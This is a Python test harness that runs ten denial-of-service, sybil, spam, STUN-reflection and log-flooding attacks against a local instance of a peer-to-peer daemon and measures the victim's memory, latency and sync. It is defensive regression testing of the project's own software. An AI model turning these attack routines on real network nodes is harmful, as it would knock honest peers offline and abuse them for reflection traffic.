#!/usr/bin/env python3
"""The attacks of issue 9 against a real victim daemon, measured: the victim's memory
(RSS) and responsiveness under each attack, whether an honest peer stays connected and
in sync, and one figure per attack. Run it on this checkout, then with --source on an
older one (e.g. `git archive main | tar -x -C /tmp/main`) to compare: the victim then runs
that code, the attackers (tests/daemon/hostile.py) speak only the wire protocol.

    .venv/test/bin/python scripts/attack.py                       # every attack
    .venv/test/bin/python scripts/attack.py --only refs,sync      # some
    .venv/test/bin/python scripts/attack.py --source /tmp/main    # the victim on old code

Responsiveness is measured from outside: the worst latency of GET /api/v1/health on
the victim's control port, polled every 100 ms during the attack (the victim's event
loop answers it; a loop blocked for a second shows as a second), beside the victim's
own figure where it has one (its health check's loop lag).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import dataclasses
import functools
import importlib
import importlib.util
import json
import os
import random
import socket
import sys
import tempfile
import time
import urllib.request
from collections.abc import Awaitable, Callable, Iterable
from pathlib import Path
from typing import Any

import aiohttp

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from liberation_node.core import frames
from liberation_node.core.bodies import Post, Register
from liberation_node.core.frames import Graft, Signal, SyncOpen, Want
from liberation_node.core.identity import Identity, id_to_text
from liberation_node.core.ops import Op, create_op
from liberation_node.core.records import NodeInfo, create_record
from tests.daemon.harness import NETWORK, Daemon, converged
from tests.daemon.hostile import Hostile, now_ms, sink_offers

MiB = 2**20


def tree_of(source: str | None) -> dict[str, Any]:
    """Daemon arguments that run `source`'s code (None: this checkout's)."""
    return {"env": {"PYTHONPATH": source}, "cwd": Path(source)} if source else {}


class Wire:
    """Frames as the victim's tree writes them. The attackers are this checkout's client,
    but an older tree's OPS and RECORDS had no hop counts and its PONG no clock: against
    it, those frames are encoded by its own frames module, loaded from its source."""

    def __init__(self, source: str | None) -> None:
        self.frames: Any = frames if source is None else _frames_of(source)
        names = {f.name for f in dataclasses.fields(self.frames.Pong)}
        self.hops = "clock" in names  # the format with hop counts and the clock
        # The op format the tree writes (older ones know format 1 only).
        self.op_format = int(importlib.import_module(
            self.frames.__name__.rsplit(".", 1)[0] + ".ops").OP_FORMAT)

    def ops(self, wires: Iterable[bytes]) -> bytes:
        return self._encode(self.frames.Ops(False, tuple(
            (w, frames.MAX_HOPS) if self.hops else w for w in wires)))

    def records(self, wires: Iterable[bytes]) -> bytes:
        if self.hops:
            return self._encode(self.frames.Records(False, tuple(
                (w, frames.MAX_HOPS) for w in wires)))
        return self._encode(self.frames.Records(tuple(wires)))

    def pong(self, nonce: int, clock: int) -> bytes:
        return self._encode(self.frames.Pong(nonce, clock) if self.hops
                            else self.frames.Pong(nonce))

    def _encode(self, frame: Any) -> bytes:
        return bytes(self.frames.encode(frame))


def _frames_of(source: str) -> Any:
    """`liberation_node.core.frames` of another tree, as a package of another name."""
    name = "victim_tree"
    package = Path(source) / "liberation_node"
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(
            name, package / "__init__.py", submodule_search_locations=[str(package)])
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return importlib.import_module(f"{name}.core.frames")


WIRE = Wire(None)


def hostile(**kw: Any) -> Hostile:
    """A hostile peer that answers PING the way the victim's tree expects."""
    return Hostile(pong=WIRE.pong, **kw)


class Run:
    """One scenario: a victim (on --source code) and an honest peer, watched."""

    def __init__(self, tmp: Path, source: str | None, name: str, *, nofile: int | None = None,
                 bootstrap_victim: list[str] | None = None) -> None:
        prefix = ["prlimit", f"--nofile={nofile}:20000"] if nofile else []
        self.tree = tree_of(source)  # the honest peer runs the victim's code too
        self.daemons: list[Daemon] = []
        self.victim = self._start(tmp / f"{name}-victim", "victim", prefix=prefix,
                                  **self.tree, extra=["--health-interval", "1"]
                                  if "--health-interval" in _run_options(source) else [],
                                  bootstrap=bootstrap_victim or [])
        self.honest: Daemon | None = None
        self.latency_ms = 0.0
        self.own_lag_ms = 0.0
        self._watching = False

    def _start(self, path: Path, name: str, **kw: Any) -> Daemon:
        d = Daemon(path, name=name, **kw)
        self.daemons.append(d)
        return d.start(timeout=40)

    def add_honest(self, tmp: Path, name: str) -> Daemon:
        self.honest = self._start(tmp / f"{name}-honest", "honest", **self.tree,
                                  bootstrap=[self.victim.peer_url])
        return self.honest

    def rss(self) -> int:
        return _rss_of(self.victim)

    async def watch(self) -> None:
        """Poll the victim's health every 100 ms: the worst latency, and its own lag."""
        self._watching = True
        url = self.victim.run["control_url"] + "/api/v1/health"
        while self._watching:
            started = time.monotonic()
            try:
                body = await asyncio.to_thread(_get, url, 30)
                lag = body.get("checks", {}).get("loop", {}).get("lag_ms")
                if isinstance(lag, int | float):
                    self.own_lag_ms = max(self.own_lag_ms, float(lag))
            except Exception:
                pass
            self.latency_ms = max(self.latency_ms, (time.monotonic() - started) * 1000)
            await asyncio.sleep(0.1)

    def stop_watching(self) -> None:
        self._watching = False

    def honest_connected(self) -> bool:
        if self.honest is None:
            return False
        honest_id = self.honest.status()["node_id"]
        try:
            return any(p["id"] == honest_id for p in self.victim.status()["peers"])
        except Exception:
            return False

    async def honest_syncs(self, timeout: float = 30) -> bool:
        """The honest peer writes; does the victim get it?"""
        assert self.honest is not None
        honest = self.honest
        await asyncio.to_thread(honest.api, "POST", "/api/v1/messages", {"text": "after"})
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                if await asyncio.to_thread(converged, [self.victim, honest]):
                    return True
            except Exception:
                pass
            await asyncio.sleep(0.5)
        return False

    def close(self) -> None:
        for d in self.daemons:
            d.kill()


def _get(url: str, timeout: float) -> dict[str, Any]:
    try:
        with urllib.request.urlopen(url, timeout=timeout) as reply:
            return dict(json.loads(reply.read()))
    except urllib.error.HTTPError as exc:
        with exc:
            return dict(json.loads(exc.read() or b"{}"))


async def until(check: Callable[[], bool], timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            if await asyncio.to_thread(check):
                return True
        except Exception:
            pass
        await asyncio.sleep(0.3)
    return False


def feed(who: Identity, count: int, size: int) -> list[Op]:
    ops: list[Op] = []
    now = now_ms() - 60_000
    for seq in range(1, count + 1):
        body = Register("h") if seq == 1 else Post("social", "x" * size, 1, None)
        ops.append(create_op(who, network=NETWORK, format=WIRE.op_format, seq=seq,
                             prev=ops[-1].id if ops else None, timestamp=now + seq,
                             body=body))
    return ops


def registers(count: int) -> list[bytes]:
    """`count` feeds of one op each, from fresh identities (made before connecting: the
    signing would keep the attacker from answering PING, and the victim would close it)."""
    now = now_ms() - 60_000
    return [create_op(Identity.from_seed(os.urandom(32)), network=NETWORK,
                      format=WIRE.op_format, seq=1, prev=None, timestamp=now,
                      body=Register("r")).wire
            for _ in range(count)]


async def _feeds(run: Run, x: Hostile, wires: list[bytes]) -> None:
    """Give the victim these feeds."""
    await x.send_all(WIRE.ops(wires[i:i + 100]) for i in range(0, len(wires), 100))
    await until(lambda: run.victim.status()["authors"] >= len(wires), 60)


# -- the attacks --------------------------------------------------------------------------

async def refs(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 1: repeated refs in GRAFT and WANT frames (60 frames, 3.7 MB)."""
    run = Run(tmp, source, "refs")
    try:
        run.add_honest(tmp, "refs")
        await until(run.honest_connected, 30)
        x = await hostile().connect(run.victim.peer_url)
        ops = feed(x.identity, 20, 4000)
        twin = create_op(x.identity, network=NETWORK, format=WIRE.op_format, seq=20,
                         prev=ops[18].id, timestamp=ops[19].timestamp,
                         body=Post("social", "twin", 1, None))
        rng = random.Random(1)
        frontier = tuple(sorted((rng.randbytes(32), rng.randrange(1, 2**40))
                                for _ in range(250)))
        record = create_record(x.identity, network=NETWORK, version=now_ms(), ttl_ms=600_000,
                               body=NodeInfo("big", "x", (), (), frontier))
        await x.send_all([WIRE.ops(o.wire for o in ops[:10]),
                          WIRE.ops(o.wire for o in ops[10:]),
                          WIRE.records((record.wire,)), WIRE.ops((twin.wire,))])
        await until(lambda: run.victim.status()["ops"] >= 20, 20)
        await asyncio.sleep(1)
        before = run.rss()
        watcher = asyncio.create_task(run.watch())
        op = ops[5]
        attack = [Graft(((op.author, op.seq, op.id),) * 800),
                  Want(0, (), (), ((x.identity.public_key, "node.info"),) * 1400),
                  Want(0, (), (x.identity.public_key,) * 1850, ())] * 20
        size = sum(len(frames.encode(f)) for f in attack)
        sent = await x.send_all(attack)
        await asyncio.sleep(10)
        peak = run.rss()
        run.stop_watching()
        await watcher
        result = {"frames_sent": sent, "attack_bytes": size, "rss_before_mb": before / MiB,
                  "rss_after_mb": peak / MiB, "answer_bytes": x.bytes_in,
                  "attacker_closed": x.closed_reason or ("gone" if x.gone else None)}
        await x.close()
        return {**result, **await _honest(run)}
    finally:
        run.close()


async def sync(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 2: SYNC_OPEN at 150/s against 8,000 feeds, for 5 s."""
    run = Run(tmp, source, "sync")
    try:
        run.add_honest(tmp, "sync")
        await until(run.honest_connected, 30)
        wires = registers(8000)
        x = await hostile().connect(run.victim.peer_url)
        await _feeds(run, x, wires)
        await asyncio.sleep(2)
        before = run.rss()
        watcher = asyncio.create_task(run.watch())
        started = time.monotonic()
        i = 0
        while time.monotonic() - started < 5:
            i += 1
            x.send(SyncOpen(i, bytes(32), 10, i.to_bytes(8, "big")))
            await asyncio.sleep(1 / 150)
        await asyncio.sleep(3)
        run.stop_watching()
        await watcher
        buckets = len(x.frames_of(frames.SyncBuckets))
        result = {"sync_opens_sent": i, "answered": buckets, "rss_before_mb": before / MiB,
                  "rss_after_mb": run.rss() / MiB,
                  "attacker_closed": x.closed_reason or ("gone" if x.gone else None)}
        await x.close()
        return {**result, **await _honest(run)}
    finally:
        run.close()


async def connections(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 3: 1,020 half-sent requests from one address, soft open-files limit 1,024."""
    run = Run(tmp, source, "conns", nofile=1024)
    try:
        host, port = run.victim.peer_url.split("//")[1].split("/")[0].rsplit(":", 1)
        before = run.rss()
        held = []
        for _ in range(1020):
            try:
                s = socket.create_connection((host, int(port)), timeout=2)
                s.sendall(b"POST /v1/signal HTTP/1.1\r\nHost: x\r\n")
                held.append(s)
            except OSError:
                break
        await asyncio.sleep(1)
        info_ok = control_ok = False
        try:
            conn = socket.create_connection((host, int(port)), source_address=("127.0.0.2", 0),
                                            timeout=5)
            conn.sendall(b"GET /v1/info HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            info_ok = conn.recv(64).startswith(b"HTTP/1.1 200")
            conn.close()
        except OSError:
            pass
        with contextlib.suppress(Exception):
            control_ok = bool(await asyncio.to_thread(run.victim.status))
        started = time.monotonic()
        honest = run.add_honest(tmp, "conns")
        joined = await until(lambda: any(p["id"] == honest.status()["node_id"]
                                         for p in run.victim.status()["peers"]), 30)
        result = {"connections_opened": len(held), "info_from_other_address": info_ok,
                  "control_api": control_ok, "honest_joined": joined,
                  "join_s": round(time.monotonic() - started, 1) if joined else None,
                  "rss_before_mb": before / MiB, "rss_after_mb": run.rss() / MiB}
        for s in held:
            s.close()
        return result
    finally:
        run.close()


async def ice(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 4: offers towards a UDP sink from 3 addresses at 4 offers/s each."""
    run = Run(tmp, source, "ice")
    try:
        sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sink.bind(("127.0.0.1", 0))
        offers = await sink_offers(6, sink.getsockname()[1])
        stop = asyncio.Event()
        statuses: dict[int, int] = {}

        async def attacker(source_ip: str) -> None:
            connector = aiohttp.TCPConnector(local_addr=(source_ip, 0), force_close=True)
            async with aiohttp.ClientSession(connector=connector) as session:
                while not stop.is_set():
                    for offer in offers:
                        body = {"network": NETWORK, "from": id_to_text(os.urandom(32)),
                                "offer": offer}
                        try:
                            async with session.post(run.victim.peer_url, json=body) as reply:
                                statuses[reply.status] = statuses.get(reply.status, 0) + 1
                        except aiohttp.ClientError:
                            pass
                        await asyncio.sleep(0.25)
                        if stop.is_set():
                            return

        tasks = [asyncio.create_task(attacker(f"127.0.0.{i}")) for i in (2, 3, 4)]
        await asyncio.sleep(3)
        started = time.monotonic()
        honest = await asyncio.to_thread(run.add_honest, tmp, "ice")
        honest_id = honest.status()["node_id"]
        joined = await until(lambda: any(p["id"] == honest_id
                                         for p in run.victim.status()["peers"]), 60)
        took = time.monotonic() - started
        stop.set()
        await asyncio.gather(*tasks)
        sink.close()
        return {"honest_joined": joined, "join_s": round(took, 1) if joined else None,
                "answers": statuses}
    finally:
        run.close()


async def sybils(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 6: 10 sybil sessions that never answer PING, against a victim with two
    bootstrap peers; then a misbehaving peer that comes straight back."""
    boot = []
    for i in range(2):
        d = Daemon(tmp / f"sybil-boot{i}", name=f"boot{i}", **tree_of(source))
        boot.append(d.start(timeout=40))
    run = Run(tmp, source, "sybils", bootstrap_victim=[b.peer_url for b in boot])
    run.daemons.extend(boot)
    try:
        boot_ids = {b.status()["node_id"] for b in boot}
        await until(lambda: boot_ids <= {p["id"] for p in run.victim.status()["peers"]}, 30)
        liar = await hostile().connect(run.victim.peer_url)
        forged = bytearray(feed(Identity.from_seed(os.urandom(32)), 1, 10)[0].wire)
        forged[-1] ^= 1
        await liar.send_all([WIRE.ops((bytes(forged),))] * 20)
        await asyncio.sleep(2)
        came_back = "refused"
        try:
            again = await hostile(identity=liar.identity).connect(run.victim.peer_url)
            await asyncio.sleep(2)
            came_back = again.closed_reason or ("gone" if again.gone else "kept")
            await again.close()
        except Exception:
            pass
        swarm = []
        for _ in range(10):
            with contextlib.suppress(Exception):
                swarm.append(await hostile(answer_pings=False).connect(run.victim.peer_url))

        async def keep_alive() -> None:
            while True:
                for s in swarm:
                    s.send(frames.Prune())
                await asyncio.sleep(0.5)

        alive = asyncio.create_task(keep_alive())
        await asyncio.sleep(10)
        peers = {p["id"] for p in run.victim.status()["peers"]}
        alive.cancel()
        for s in [*swarm, liar]:
            await s.close()
        return {"sybils_connected": len(swarm), "victim_peers": len(peers),
                "sybils_kept": len(peers - boot_ids), "bootstrap_peers_kept": len(
                    boot_ids & peers), "misbehaving_peer_came_back": came_back}
    finally:
        run.close()


async def signals(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 7: SIGNAL frames, ttl 8, 32 KB payloads, for nodes nobody knows."""
    run = Run(tmp, source, "signals")
    try:
        watcher = await hostile().connect(run.victim.peer_url)
        x = await hostile().connect(run.victim.peer_url)
        for i in range(19):
            x.send(Signal(os.urandom(32), os.urandom(32), i, 8, "x" * 32_000))
        await asyncio.sleep(3)
        relayed = watcher.frames_of(Signal)
        result = {"signals_sent": 19, "relayed_to_other_peer": len(relayed),
                  "relayed_bytes": sum(len(s.payload) for s in relayed)}  # type: ignore[attr-defined]
        for h in (watcher, x):
            await h.close()
        return result
    finally:
        run.close()


async def reflect(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 7, first half: one offer with 32 candidates at chosen addresses (UDP ports
    on loopback that swallow everything): how many STUN packets, to how many of them; and
    whether candidates at multicast, broadcast, unspecified addresses or port 0 pass."""
    run = Run(tmp, source, "reflect")
    try:
        sinks = []
        for _ in range(32):
            sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sink.bind(("127.0.0.1", 0))
            sink.setblocking(False)
            sinks.append(sink)
        (offer,) = await sink_offers(1, 9)
        packets = {}
        status = await _offer_with(run, offer, [("127.0.0.1", s.getsockname()[1])
                                                for s in sinks], "127.0.0.2")
        deadline = time.monotonic() + 12
        while time.monotonic() < deadline:
            for sink in sinks:
                with contextlib.suppress(BlockingIOError):
                    while sink.recv(2048):
                        port = sink.getsockname()[1]
                        packets[port] = packets.get(port, 0) + 1
            await asyncio.sleep(0.05)
        for sink in sinks:
            sink.close()
        odd = {}
        for i, (what, host, port) in enumerate([
                ("multicast", "224.0.0.251", 5353), ("broadcast", "255.255.255.255", 9),
                ("unspecified", "0.0.0.0", 9), ("port 0", "127.0.0.1", 0)]):
            odd[what] = await _offer_with(run, offer, [(host, port)], f"127.0.0.{3 + i}")
        return {"offer_candidates": 32, "offer_answered": status,
                "stun_packets": sum(packets.values()), "destinations_probed": len(packets),
                "odd_candidates_answer": odd}
    finally:
        run.close()


async def _offer_with(run: Run, offer: dict[str, str], candidates: list[tuple[str, int]],
                      source_ip: str) -> int:
    """POST `offer` with its candidates replaced by `candidates`: the HTTP status."""
    lines = [line for line in offer["sdp"].split("\r\n")
             if not line.startswith(("a=candidate:", "a=end-of-candidates"))]
    at = next(i for i, line in enumerate(lines) if line.startswith("a=ice-ufrag"))
    lines[at:at] = [f"a=candidate:{i + 1} 1 udp {2130706431 - i} {host} {port} typ host"
                    for i, (host, port) in enumerate(candidates)] + ["a=end-of-candidates"]
    body = {"network": NETWORK, "from": id_to_text(os.urandom(32)),
            "offer": {"type": "offer", "sdp": "\r\n".join(lines)}}
    connector = aiohttp.TCPConnector(local_addr=(source_ip, 0), force_close=True)
    async with aiohttp.ClientSession(connector=connector) as session:
        try:
            async with session.post(run.victim.peer_url, json=body,
                                    timeout=aiohttp.ClientTimeout(total=40)) as reply:
                await reply.read()
                return reply.status
        except (aiohttp.ClientError, TimeoutError):
            return 0


async def spam(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 5: 6,000 node.info records from fresh identities, 100 per frame: what the
    victim keeps, what reaches its honest peer, and the memory both use."""
    run = Run(tmp, source, "spam")
    try:
        honest = run.add_honest(tmp, "spam")
        await until(run.honest_connected, 30)
        await asyncio.sleep(2)
        wires = [create_record(Identity.from_seed(os.urandom(32)), network=NETWORK,
                               version=now_ms(), ttl_ms=24 * 3_600_000,
                               body=NodeInfo(f"spam{i}", "x" * 40, (), (), ())).wire
                 for i in range(6000)]
        before, honest_before = run.rss(), _rss_of(honest)
        watcher = asyncio.create_task(run.watch())
        x = await hostile().connect(run.victim.peer_url)
        sent = await x.send_all((WIRE.records(wires[i:i + 100])
                                 for i in range(0, len(wires), 100)), pause_s=0.05)
        await asyncio.sleep(15)
        run.stop_watching()
        await watcher
        result = {"records_sent": len(wires), "frames_sent": sent,
                  "victim_records": run.victim.status()["records"],
                  "honest_records": honest.status()["records"],
                  "rss_before_mb": before / MiB, "rss_after_mb": run.rss() / MiB,
                  "honest_rss_before_mb": honest_before / MiB,
                  "honest_rss_after_mb": _rss_of(honest) / MiB,
                  "attacker_closed": x.closed_reason or ("gone" if x.gone else None)}
        await x.close()
        return {**result, **await _honest(run)}
    finally:
        run.close()


def _rss_of(d: Daemon) -> int:
    assert d.proc is not None
    with open(f"/proc/{d.proc.pid}/status") as f:
        return int(next(x for x in f if x.startswith("VmRSS:")).split()[1]) * 1024


async def views(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 8: six parallel loads of GET /api/v1/views from a web page (an image tag: no
    token, Sec-Fetch-Site cross-site) for 10 s, against a victim holding 8,000 ops."""
    run = Run(tmp, source, "views")
    try:
        wires = registers(8000)
        x = await hostile().connect(run.victim.peer_url)
        await _feeds(run, x, wires)
        await x.close()
        await asyncio.sleep(2)
        watcher = asyncio.create_task(run.watch())
        url = run.victim.run["control_url"]
        headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors",
                   "Sec-Fetch-Dest": "image", "Referer": "https://evil.example/"}
        statuses: dict[int, int] = {}
        stop = time.monotonic() + 10

        async def loader(session: aiohttp.ClientSession) -> None:
            while time.monotonic() < stop:
                async with session.get(url + "/api/v1/views", headers=headers) as reply:
                    await reply.read()
                    statuses[reply.status] = statuses.get(reply.status, 0) + 1

        async with aiohttp.ClientSession() as session:
            await asyncio.gather(*(loader(session) for _ in range(6)))
        run.stop_watching()
        await watcher
        return {"ops": 8000, "answers": statuses,
                "health_latency_max_ms": round(run.latency_ms),
                "victim_loop_lag_max_ms": run.own_lag_ms}
    finally:
        run.close()


async def logs(tmp: Path, source: str | None) -> dict[str, Any]:
    """Finding 9: 200 requests with an oversized header and 200 uploads cut short, on the
    peer port: the victim's log lines and tracebacks."""
    run = Run(tmp, source, "logs")
    try:
        host, port = run.victim.peer_url.split("//")[1].split("/")[0].rsplit(":", 1)
        lines_before = len(run.victim.read_log())
        big = b"GET /v1/info HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 20_000 + b"\r\n\r\n"
        cut = (b"POST /v1/signal HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
               b"Content-Length: 9000\r\n\r\n{\"network\": ")

        def send(data: bytes, i: int, read: bool) -> None:
            with contextlib.suppress(OSError), socket.create_connection(
                    (host, int(port)), source_address=(f"127.0.2.{2 + i % 200}", 0),
                    timeout=5) as conn:
                conn.sendall(data)
                if read:
                    conn.recv(100)

        for i in range(200):
            await asyncio.to_thread(send, big, i, True)
        for i in range(200):
            await asyncio.to_thread(send, cut, i, False)
        await asyncio.sleep(3)
        log = run.victim.read_log()[lines_before:]
        return {"requests": 400, "log_lines": len(log),
                "tracebacks": sum("Traceback" in line for line in log),
                "error_lines": sum(" ERROR " in line for line in log),
                "first_line": log[0][:160] if log else None}
    finally:
        run.close()


async def _honest(run: Run) -> dict[str, Any]:
    connected = await asyncio.to_thread(run.honest_connected)
    synced = await run.honest_syncs()
    return {"honest_connected": connected, "honest_synced": synced,
            "health_latency_max_ms": round(run.latency_ms), "victim_loop_lag_max_ms":
            run.own_lag_ms}


ATTACKS: dict[str, Callable[[Path, str | None], Awaitable[dict[str, Any]]]] = {
    "refs": refs, "sync": sync, "conns": connections, "ice": ice, "sybils": sybils,
    "signals": signals, "reflect": reflect, "spam": spam, "views": views, "logs": logs}


@functools.cache
def _run_options(source: str | None) -> str:
    """`liberation-node run --help` of the tree a victim runs: older trees lack some
    options (e.g. --health-interval: their health is checked every 10 s, and they have
    no /api/v1/health, so only the outside latency measures them)."""
    import subprocess

    out = subprocess.run([sys.executable, "-m", "liberation_node", "run", "--help"],
                         capture_output=True, text=True, check=False, cwd=source or None,
                         env={**os.environ, **({"PYTHONPATH": source} if source else {})})
    return out.stdout


def _code_of(source: str | None) -> str:
    """Which tree a victim runs (checked: not merely asked for)."""
    import subprocess

    out = subprocess.run([sys.executable, "-c", "import liberation_node; "
                          "print(liberation_node.__file__)"], capture_output=True, text=True,
                         env={**os.environ, **({"PYTHONPATH": source} if source else {})},
                         cwd=source or None, check=False)
    return out.stdout.strip()


async def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--source", help="run the victim from this source tree")
    parser.add_argument("--only", default=",".join(ATTACKS), help="attacks, comma-separated")
    args = parser.parse_args()
    source = str(Path(args.source).resolve()) if args.source else None
    global WIRE
    WIRE = Wire(source)
    with tempfile.TemporaryDirectory() as tmp:
        for name in args.only.split(","):
            started = time.monotonic()
            result = await ATTACKS[name](Path(tmp), source)
            result["seconds"] = round(time.monotonic() - started, 1)
            result["victim_code"] = await asyncio.to_thread(_code_of, source)
            print(json.dumps({"attack": name, "victim": source or "this checkout",
                              **{k: round(v, 1) if isinstance(v, float) else v
                                 for k, v in result.items()}}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
